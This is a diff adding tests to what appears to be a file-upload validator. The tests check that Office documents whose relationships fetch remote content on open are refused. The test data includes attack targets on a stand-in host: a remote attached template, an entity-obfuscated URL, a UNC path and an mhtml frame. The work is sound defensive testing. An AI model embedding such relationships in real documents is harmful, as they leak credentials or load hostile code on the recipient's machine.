@@ -270,6 +270,39 @@ def test_a_book_that_speaks_of_scripts_is_taken_and_one_that_no_reader_opens_is_
     assert "trop longues" in why("a.epub", book(PAGE.format("".join(map(str, range(900_000))))))
 
 
+REL = (
+    '<?xml version="1.0"?><Relationships><Relationship Id="rId1" Type="http://x/relationships/{}" Target="{}"{}/>'
+    "</Relationships>"
+)
+OUTSIDE = ' TargetMode="External"'
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+@pytest.mark.parametrize(
+    ("sort", "target"),
+    [
+        ("attachedTemplate", "https://evil.example/a.dotm"),
+        ("attachedTemplate", "h&#116;tp://evil.example/a"),
+        ("oleObject", "\\\\evil.example\\a"),
+        ("frame", "mhtml:http://evil.example/a!x"),
+    ],
+)
+def test_an_office_file_that_fetches_something_when_it_is_opened_is_refused(
+    sort: str, target: str, encoding: str
+) -> None:
+    relation = REL.format(sort, target, OUTSIDE).replace("?>", f' encoding="{encoding}"?>').encode(encoding)
+    said = why("note.docx", docx(**{"word/_rels/settings.xml.rels": relation}))
+    assert "elsewhere" in said or "ailleurs" in said
+
+
+def test_an_office_file_with_links_and_the_template_of_its_author_is_taken() -> None:
+    harmless = (("hyperlink", "https://a.example/"), ("attachedTemplate", "file:///C:\\Modeles\\lettre.dotx"))
+    for sort, target in harmless:
+        relation = REL.format(sort, target, OUTSIDE).encode()
+        assert taken("note.docx", docx(**{"word/_rels/settings.xml.rels": relation})).kind.code == "docx"
+    assert "abîmé" in why("note.docx", docx(**{"_rels/.rels": b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"}))
+
+
 def test_what_no_such_format_packs_with_is_refused() -> None:
     kept = io.BytesIO()
     with zipfile.ZipFile(kept, "w", zipfile.ZIP_LZMA) as made:
